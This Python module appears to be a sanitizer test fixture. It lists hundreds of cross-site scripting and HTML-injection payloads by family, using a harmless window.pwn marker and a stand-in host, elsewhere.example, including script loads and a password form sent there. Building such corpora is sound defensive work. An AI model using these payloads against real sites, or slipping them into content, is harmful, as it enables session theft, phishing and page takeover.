"""Words that would run, load or lead elsewhere if a page took them for markup. Each says who it is: window.pwn.

Our own, by family. None of it may run, whatever document it stands in and whichever field of it.
"""

from __future__ import annotations

SCRIPTS = r"""
<script>window.pwn=1</script>
<SCRIPT>window.pwn=1</SCRIPT>
<script src=//elsewhere.example/a.js></script>
<script src="https://elsewhere.example/a.js" async></script>
<script type=module>window.pwn=1</script>
<script type="text/javascript" defer>window.pwn=1</script>
<script/x>window.pwn=1</script>
<script	>window.pwn=1</script	>
<scr<script>ipt>window.pwn=1</scr</script>ipt>
<<script>window.pwn=1//<</script>
<script>/*<!--*/window.pwn=1//--></script>
<script nonce="">window.pwn=1</script>
<script>window['pw'+'n']=1</script>
<script>document.write('<img src=x onerror=window.pwn=1>')</script>
</script><script>window.pwn=1</script>
<noscript><script>window.pwn=1</script></noscript>
<script src=data:,window.pwn=1></script>
<script src="data:text/javascript;base64,d2luZG93LnB3bj0x"></script>
<script type="importmap">{"imports":{"a":"data:text/javascript,window.pwn=1"}}</script>
<script type="speculationrules">{"prefetch":[{"urls":["https://elsewhere.example/"]}]}</script>
"""

HANDLERS = r"""
<img src=x onerror=window.pwn=1>
<img src=x onerror="window.pwn=1">
<img src=x onerror='window.pwn=1'
<img/src=x/onerror=window.pwn=1>
<img src="x" OnErRoR=window.pwn=1>
<img src=x onerror	=	window.pwn=1>
<img src=x onerror&#61;window.pwn=1>
<img src=/static/icon.svg onload=window.pwn=1>
<body onload=window.pwn=1>
<body onpageshow=window.pwn=1>
<body onhashchange=window.pwn=1>
<p onclick=window.pwn=1 onmouseover=window.pwn=1 onfocus=window.pwn=1 tabindex=0 autofocus>point here</p>
<input autofocus onfocus=window.pwn=1>
<textarea autofocus onfocus=window.pwn=1></textarea>
<select autofocus onfocus=window.pwn=1><option>1</select>
<button autofocus onfocus=window.pwn=1>press</button>
<details open ontoggle=window.pwn=1><summary>fold</summary></details>
<details ontoggle=window.pwn=1>fold</details>
<video src=x onerror=window.pwn=1></video>
<video><source src=x onerror=window.pwn=1></video>
<audio src=x onerror=window.pwn=1></audio>
<audio autoplay oncanplay=window.pwn=1 src=data:audio/wav;base64,UklGRg==></audio>
<object data=x onerror=window.pwn=1></object>
<iframe onload=window.pwn=1></iframe>
<marquee onstart=window.pwn=1>round</marquee>
<marquee loop=1 width=0 onfinish=window.pwn=1>round</marquee>
<div onanimationstart=window.pwn=1 style="animation:x 1s">moves</div>
<div ontransitionend=window.pwn=1 style="transition:all 1s">moves</div>
<p oncopy=window.pwn=1 onpaste=window.pwn=1 contenteditable>copy</p>
<div onpointerrawupdate=window.pwn=1 onwheel=window.pwn=1>wheel</div>
<div onbeforeinput=window.pwn=1 contenteditable>type</div>
<dialog open onclose=window.pwn=1>say</dialog>
<form onsubmit=window.pwn=1><button>send</button></form>
<a href=# onclick=window.pwn=1>press</a>
<x onclick=window.pwn=1 tabindex=1 id=x autofocus onfocus=window.pwn=1></x>
<div popover onbeforetoggle=window.pwn=1 id=pop>pop</div><button popovertarget=pop>pop</button>
<div oncontentvisibilityautostatechange=window.pwn=1 style=content-visibility:auto>seen</div>
<div onscrollend=window.pwn=1>end</div>
<style onload=window.pwn=1></style>
<link rel=stylesheet href=/static/css/base.css onload=window.pwn=1>
"""

DRAWINGS = r"""
<svg onload=window.pwn=1>
<svg><script>window.pwn=1</script></svg>
<svg><script href=data:,window.pwn=1 /></svg>
<svg><script xlink:href=data:,window.pwn=1></script></svg>
<svg><a xlink:href="javascript:window.pwn=1"><text y=20>press</text></a></svg>
<svg><animate onbegin=window.pwn=1 attributeName=x dur=1s>
<svg><set onbegin=window.pwn=1 attributeName=x to=1>
<svg><a><animate attributeName=href values=javascript:window.pwn=1 /><text y=20>press</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>window.pwn=1</script></svg>#x" /></svg>
<svg><use href="https://elsewhere.example/a.svg#x" /></svg>
<svg><image href="https://elsewhere.example/a.png" /></svg>
<svg><foreignObject><iframe srcdoc="<script>parent.pwn=1</script>"></iframe></foreignObject></svg>
<svg><style>@import '//elsewhere.example/a.css';</style></svg>
<svg><style><img src=x onerror=window.pwn=1></style></svg>
<svg></p><style><a id="</style><img src=1 onerror=window.pwn=1>">
<svg><desc><img src=x onerror=window.pwn=1></desc></svg>
<svg><title><style></title><img src=x onerror=window.pwn=1></style></svg>
<svg><discard onbegin=window.pwn=1 />
<svg xmlns:x="http://www.w3.org/1999/xhtml"><x:script>window.pwn=1</x:script></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.pwn=1&gt;">
<math><mi><table><mglyph><style><math><img src onerror=window.pwn=1></style>
<math><a xlink:href="javascript:window.pwn=1">press</a></math>
<math href="javascript:window.pwn=1">press</math>
<math><annotation-xml encoding="text/html"><img src=x onerror=window.pwn=1></annotation-xml></math>
<math><annotation-xml encoding="application/xhtml+xml"><script>window.pwn=1</script></annotation-xml></math>
<math><maction actiontype="statusline#http://elsewhere.example" xlink:href="javascript:window.pwn=1">press</maction></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.pwn=1>
<math><style><!--</style><a title="--><img src=x onerror=window.pwn=1>">
<table><math><select><mi><select><input><style><img src onerror=window.pwn=1></style>
"""

ADDRESSES = r"""
javascript:window.pwn=1
JaVaScRiPt:window.pwn=1
<a href="javascript:window.pwn=1">press</a>
<a href='JAVASCRIPT:window.pwn=1'>press</a>
<a href=javascript:window.pwn=1>press</a>
<a href=" javascript:window.pwn=1">press</a>
<a href="java	script:window.pwn=1">press</a>
<a href="java&#9;script:window.pwn=1">press</a>
<a href="java&#10;script:window.pwn=1">press</a>
<a href="java&#13;script:window.pwn=1">press</a>
<a href="&#1;javascript:window.pwn=1">press</a>
<a href="&#x1f;javascript:window.pwn=1">press</a>
<a href="javascript&colon;window.pwn=1">press</a>
<a href="javascript&#58;window.pwn=1">press</a>
<a href="javascript&#x3a;window.pwn=1">press</a>
<a href="javascript&#0000058window.pwn=1">press</a>
<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:window.pwn=1">press</a>
<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;window.pwn=1">press</a>
<a href="javascript:%77indow.pwn=1">press</a>
<a href="javascript://%0awindow.pwn=1">press</a>
<a href="javascript://example.org/%0d%0awindow.pwn=1">press</a>
<a href="data:text/html,<script>window.pwn=1</script>">press</a>
<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduPTE8L3NjcmlwdD4=">press</a>
<a href="vbscript:window.pwn=1">press</a>
<a href="blob:https://elsewhere.example/1">press</a>
<a href="filesystem:https://elsewhere.example/1">press</a>
<a href="view-source:javascript:window.pwn=1">press</a>
<a href="feed:javascript:window.pwn=1">press</a>
<a href="jar:javascript:window.pwn=1!/">press</a>
<a href="//elsewhere.example/">press</a>
<a href="/\elsewhere.example/">press</a>
<a href="https:elsewhere.example">press</a>
<a href="https://elsewhere.example@127.0.0.1/">press</a>
<a href="mailto:ada@example.org?subject=x&body=%3Cscript%3Ewindow.pwn=1%3C/script%3E">press</a>
<a href="https://elsewhere.example/" target=_blank rel=opener>press</a>
<a href="https://elsewhere.example/" ping="https://elsewhere.example/ping" download>press</a>
https://example.org/"onmouseover="window.pwn=1
https://example.org/'onmouseover='window.pwn=1
https://example.org/<script>window.pwn=1</script>
https://example.org/`onmouseover=window.pwn=1
https://example.org/&quot;onmouseover=&quot;window.pwn=1
https://"><img src=x onerror=window.pwn=1>
mailto:"><img src=x onerror=window.pwn=1>@example.org
mailto:ada@example.org"onmouseover="window.pwn=1
http://a@b.example" onfocus="window.pwn=1" autofocus="
<https://example.org/"onclick=window.pwn=1>
"""

FRAMES = r"""
<iframe src="javascript:window.pwn=1"></iframe>
<iframe src="javascript:parent.pwn=1"></iframe>
<iframe srcdoc="<script>parent.pwn=1</script>"></iframe>
<iframe srcdoc="&lt;script&gt;parent.pwn=1&lt;/script&gt;"></iframe>
<iframe srcdoc='<img src=x onerror=parent.pwn=1>' sandbox="allow-scripts allow-same-origin"></iframe>
<iframe src="data:text/html,<script>parent.pwn=1</script>"></iframe>
<iframe src="https://elsewhere.example/"></iframe>
<iframe src=/a/ name="</iframe><img src=x onerror=window.pwn=1>"></iframe>
<frameset onload=window.pwn=1><frame src="javascript:window.pwn=1"></frameset>
<object data="javascript:window.pwn=1"></object>
<object data="data:text/html,<script>parent.pwn=1</script>" type=text/html></object>
<object type="text/x-scriptlet" data="https://elsewhere.example/a"></object>
<embed src="javascript:window.pwn=1">
<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.pwn=1'/>">
<embed code="https://elsewhere.example/a.swf" allowscriptaccess=always>
<applet code="https://elsewhere.example/a.class"></applet>
<portal src="https://elsewhere.example/"></portal>
<fencedframe></fencedframe>
<meta http-equiv=refresh content="0;url=javascript:window.pwn=1">
<meta http-equiv="refresh" content="0; url=https://elsewhere.example/">
<meta http-equiv=refresh content="0;url=data:text/html,<script>window.pwn=1</script>">
<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'">
<meta http-equiv=set-cookie content="theme=dark">
<meta name=referrer content=unsafe-url>
<meta charset=utf-7>+ADw-script+AD4-window.pwn=1+ADw-/script+AD4-
<base href="https://elsewhere.example/">
<base href="javascript:window.pwn=1//"><a href=x>press</a>
<base target="x'><img src=x onerror=window.pwn=1>">
<link rel=stylesheet href="https://elsewhere.example/a.css">
<link rel=preload as=script href="https://elsewhere.example/a.js">
<link rel=prefetch href="https://elsewhere.example/">
<link rel=dns-prefetch href="//elsewhere.example">
<link rel=preconnect href="https://elsewhere.example">
<link rel=manifest href="https://elsewhere.example/m.json">
<link rel=import href="data:text/html,<script>window.pwn=1</script>">
<link rel=icon href="https://elsewhere.example/i.png">
<form action="https://elsewhere.example/"><input name=password><button>Sign in</button></form>
<form action="javascript:window.pwn=1"><button>press</button></form>
<form id=f></form><button form=f formaction="javascript:window.pwn=1">press</button>
<input type=image src="https://elsewhere.example/a.png">
<isindex action="javascript:window.pwn=1" type=submit value=press>
<keygen autofocus onfocus=window.pwn=1>
<template shadowrootmode=open><script>window.pwn=1</script></template>
<template><script>window.pwn=1</script></template>
<slot onslotchange=window.pwn=1></slot>
"""

LOADS = r"""
<img src="https://elsewhere.example/a.png">
<img srcset="https://elsewhere.example/a.png 1x, //elsewhere.example/b.png 2x">
<img src="x" lowsrc="https://elsewhere.example/a.png" dynsrc="https://elsewhere.example/b.png">
<picture><source srcset="https://elsewhere.example/a.png"><img></picture>
<video poster="https://elsewhere.example/a.png" src="https://elsewhere.example/a.mp4" autoplay></video>
<video><track default src="https://elsewhere.example/a.vtt"></video>
<table background="https://elsewhere.example/a.png"><tr><td background="//elsewhere.example/b.png">x</table>
<body background="https://elsewhere.example/a.png">
<bgsound src="https://elsewhere.example/a.wav">
<input type=image src="//elsewhere.example/a.png" formaction="//elsewhere.example/">
<div style="background:url(https://elsewhere.example/a.png)">ground</div>
<div style="background:url(javascript:window.pwn=1)">ground</div>
<div style="width:expression(window.pwn=1)">ground</div>
<div style="-moz-binding:url(https://elsewhere.example/a.xml#x)">ground</div>
<div style="behavior:url(https://elsewhere.example/a.htc)">ground</div>
<div style="position:fixed;inset:0;background:red;z-index:999">over all</div>
<style>body{display:none}</style>
<style>@import "https://elsewhere.example/a.css";</style>
<style>@font-face{font-family:x;src:url(https://elsewhere.example/a.woff)}*{font-family:x}</style>
<style>input[value^=a]{background:url(//elsewhere.example/a)}</style>
<style>*{background-image:image-set("https://elsewhere.example/a.png" 1x)}</style>
<p style=xss:expr/**/ession(window.pwn=1)>ground</p>
<li style=list-style:url(https://elsewhere.example/a.png)>item
"""

BREAKOUTS = r"""
"><script>window.pwn=1</script>
'><script>window.pwn=1</script>
"><img src=x onerror=window.pwn=1>
'><img src=x onerror=window.pwn=1>
`><img src=x onerror=window.pwn=1>
" onmouseover="window.pwn=1" x="
' onmouseover='window.pwn=1' x='
" autofocus onfocus=window.pwn=1 x="
"/onfocus=window.pwn=1/autofocus/x="
--><script>window.pwn=1</script>
<!--><script>window.pwn=1</script>-->
<!-- --!><script>window.pwn=1</script>
<!--<img src="--><img src=x onerror=window.pwn=1>">
<![CDATA[<script>window.pwn=1</script>]]>
]]><script>window.pwn=1</script>
<?xml version="1.0"?><script>window.pwn=1</script>
<!DOCTYPE x [<!ENTITY y "<script>window.pwn=1</script>">]>&y;
</title><script>window.pwn=1</script>
</textarea><script>window.pwn=1</script>
</style><script>window.pwn=1</script>
</noscript><script>window.pwn=1</script>
</template><script>window.pwn=1</script>
</main></body></html><script>window.pwn=1</script>
</p></div></article></li></ol></main><footer><h1>another page</h1>
</details></summary></blockquote><script>window.pwn=1</script>
</table></tbody></td><script>window.pwn=1</script>
</a></bdi></mark><img src=x onerror=window.pwn=1>
<title><img title="</title><img src=x onerror=window.pwn=1>">
<textarea><img title="</textarea><img src=x onerror=window.pwn=1>">
<xmp><p title="</xmp><svg/onload=window.pwn=1>">
<noembed><p title="</noembed><svg/onload=window.pwn=1>">
<noframes><p title="</noframes><svg/onload=window.pwn=1>">
<iframe><p title="</iframe><svg/onload=window.pwn=1>">
<noscript><p title="</noscript><img src=x onerror=window.pwn=1>">
<plaintext><script>window.pwn=1</script>
<listing><img src=x onerror=window.pwn=1></listing>
<select><template><script>window.pwn=1</script></template></select>
<select><img src=x onerror=window.pwn=1></select>
<table><td><script>window.pwn=1</script>
<a href="x"<script>window.pwn=1</script>
<a title="<img src=x onerror=window.pwn=1>">press</a>
<b <script>window.pwn=1</script>0
<div id="main"><div id="posts"><div id="sheet" class="sheet">
<p id=said class="unseen skips masthead">out of sight</p>
<img name=getElementById><form name=body><input name=cookie>
<a id=defaultView><a id=defaultView name=htmx href="cid:x">
&lt;script&gt;window.pwn=1&lt;/script&gt;
&amp;lt;script&amp;gt;window.pwn=1&amp;lt;/script&amp;gt;
&#60;script&#62;window.pwn=1&#60;/script&#62;
&#x3c;img src=x onerror=window.pwn=1&#x3e;
&lt;img src=x onerror=window.pwn=1&gt;
&ltscript&gtwindow.pwn=1&lt/script&gt
%3Cscript%3Ewindow.pwn=1%3C/script%3E
\u003cscript\u003ewindow.pwn=1\u003c/script\u003e
\x3cscript\x3ewindow.pwn=1\x3c/script\x3e
+ADw-script+AD4-window.pwn=1+ADw-/script+AD4-
"""

TEMPLATES = r"""
{{ 7|add:7 }}{% load static %}
{{ settings.SECRET_KEY }}
{% include "admin/base.html" %}
{% autoescape off %}<script>window.pwn=1</script>{% endautoescape %}
{{constructor.constructor('window.pwn=1')()}}
${window.pwn=1}
#{window.pwn=1}
<%= window.pwn=1 %>
[[window.pwn=1]]
<div ng-app ng-csp><p ng-focus="window.pwn=1">x</p></div>
<p x-data x-init="window.pwn=1">x</p>
<p v-html="'<img src=x onerror=window.pwn=1>'" v-on:click="window.pwn=1">x</p>
"""

HTMX = r"""
<div hx-get="/" hx-trigger="load" hx-swap="outerHTML">x</div>
<div data-hx-get="/" data-hx-trigger="load">x</div>
<div hx-get="https://elsewhere.example/" hx-trigger="load">x</div>
<div hx-post="/settings/" hx-trigger="load" hx-vals='{"theme":"dark"}'>x</div>
<div hx-post="/logout/" hx-trigger="load">x</div>
<div hx-delete="/admin/" hx-trigger="revealed">x</div>
<div hx-on="click: window.pwn=1">x</div>
<div hx-on:htmx:load="window.pwn=1">x</div>
<div hx-on::load="window.pwn=1">x</div>
<div hx-on--load="window.pwn=1">x</div>
<div data-hx-on:click="window.pwn=1">x</div>
<div hx-vals="js:{a: window.pwn=1}" hx-get="/" hx-trigger="load">x</div>
<div hx-vars="a:window.pwn=1" hx-get="/" hx-trigger="load">x</div>
<div hx-trigger="load[window.pwn=1]" hx-get="/">x</div>
<div hx-headers='js:{"x": window.pwn=1}' hx-get="/" hx-trigger="load">x</div>
<div hx-request='js:{"timeout": window.pwn=1}' hx-get="/" hx-trigger="load">x</div>
<div hx-ext="elsewhere" hx-boost=true><a href="/logout/">x</a></div>
<div hx-swap-oob="true" id="main">taken over</div>
<div hx-select-oob="#main" hx-get="/help/" hx-trigger="load">x</div>
<div hx-push-url="https://elsewhere.example/" hx-get="/help/" hx-trigger="load">x</div>
<div hx-confirm="window.pwn" hx-prompt="say" hx-get="/" hx-trigger="load">x</div>
<script type="text/hyperscript">on load set window.pwn to 1</script>
<p _="on load set window.pwn to 1">x</p>
<meta name="htmx-config" content='{"allowEval":true,"allowScriptTags":true,"selfRequestsOnly":false}'>
"""

MARKUPS = r"""
[press](javascript:window.pwn=1)
[press](JaVaScRiPt:window.pwn=1 "title")
[press](<javascript:window.pwn=1>)
[press](data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduPTE8L3NjcmlwdD4=)
[press](https://example.org "onmouseover=window.pwn=1 x=")
![x](https://elsewhere.example/a.png)
![x](javascript:window.pwn=1)
![x"onerror="window.pwn=1](x)
[a]: javascript:window.pwn=1
<javascript:window.pwn=1>
```html"><script>window.pwn=1</script>
`<script>window.pwn=1</script>`
> <img src=x onerror=window.pwn=1>
[url=javascript:window.pwn=1]press[/url]
[url="javascript:window.pwn=1"]press[/url]
[img]https://elsewhere.example/a.png" onerror="window.pwn=1[/img]
[quote="ada, post:1, topic:1, full:true"]<script>window.pwn=1</script>[/quote]
[quote='"><img src=x onerror=window.pwn=1>']x[/quote]
[color=red;background:url(javascript:window.pwn=1)]x[/color]
[code]</code></pre><script>window.pwn=1</script>[/code]
"""

# Those with characters that a source file cannot show.
SCRIPTS_OF_THE_WORLD = [
    "<img src=x onerror\u00a0=window.pwn=1>",
    "<img\u2003src=x onerror=window.pwn=1>",
    "<\u200bscript>window.pwn=1</script>",
    "<scr\u00adipt>window.pwn=1</script>",
    "\uff1cscript\uff1ewindow.pwn=1\uff1c/script\uff1e",
    "\u2039script\u203awindow.pwn=1\u2039/script\u203a",
    "<\u0131mg src=x onerror=window.pwn=1>",
    "<\u017fcript>window.pwn=1</\u017fcript>",
    "<a href='java\u017fcript:window.pwn=1'>press</a>",
    "<a href='\u2028javascript:window.pwn=1'>press</a>",
    "<a href='\ufeffjavascript:window.pwn=1'>press</a>",
    "<a href='\u3000javascript:window.pwn=1'>press</a>",
    "\u202e<tpircs/>1=nwp.wodniw<tpircs>\u202c",
    "\u2066<script>window.pwn=1</script>\u2069",
    "\u0338<script\u0338>window.pwn=1</script>",
    "<script\u0300>window.pwn=1</script>",
    "<svg\x0conload=window.pwn=1>",
    "<svg\x0bonload=window.pwn=1>",
    "<script>\x1b[31mwindow.pwn=1\x1b[0m</script>",
    "\U000e003cscript\U000e003ewindow.pwn=1",
    "<img src=x onerror=window.pwn=1" + " " * 4096 + ">",
    "<a title='" + "x" * 20_000 + "' onclick=window.pwn=1>press</a>",
    "<p " + " ".join(f"data-{number}=1" for number in range(2000)) + " onclick=window.pwn=1>press</p>",
    "<b>" * 600 + "<script>window.pwn=1</script>",
    "<" * 5000 + "script>window.pwn=1</script>",
]
# As a mail's head may write it.
HEADS = r"""
=?utf-8?Q?=3Cscript=3Ewindow.pwn=3D1=3C/script=3E?=
=?utf-8?B?PHNjcmlwdD53aW5kb3cucHduPTE8L3NjcmlwdD4=?=
=?utf-8?Q?=22=3E=3Cimg_src=3Dx_onerror=3Dwindow.pwn=3D1=3E?= <ada@example.org>
=?utf-7?Q?+ADw-script+AD4-window.pwn=3D1+ADw-/script+AD4-?=
=?iso-2022-jp?B?GyRCPCobKEI8c2NyaXB0PndpbmRvdy5wd249MTwvc2NyaXB0Pg==?=
"<script>window.pwn=1</script>" <ada@example.org>
=?utf-8?Q?a?= =?utf-8?Q?<script>window.pwn=3D1</script>?=
=?utf-8*en?Q?=3Cimg src=x onerror=window.pwn=1=3E?=
"""

FAMILIES: dict[str, list[str]] = {
    name: [line for line in text.strip("\n").split("\n") if line]
    for name, text in {
        "scripts": SCRIPTS, "handlers": HANDLERS, "drawings": DRAWINGS, "addresses": ADDRESSES, "frames": FRAMES,
        "loads": LOADS, "breakouts": BREAKOUTS, "templates": TEMPLATES, "htmx": HTMX, "markups": MARKUPS, "heads": HEADS,
    }.items()
} | {"scripts of the world": SCRIPTS_OF_THE_WORLD}  # fmt: skip
PAYLOADS = [payload for family in FAMILIES.values() for payload in family]
